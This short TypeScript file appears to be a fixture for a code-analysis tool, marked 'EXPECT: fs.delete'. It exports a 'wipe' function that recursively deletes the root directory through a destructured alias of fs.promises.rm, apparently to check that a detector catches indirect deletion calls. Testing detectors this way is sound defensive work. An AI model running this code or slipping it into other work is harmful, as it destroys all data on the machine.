// EXPECT: fs.delete
import * as fs from "fs";
const { promises: { rm } } = fs;
export const wipe = () => rm("/", { recursive: true });
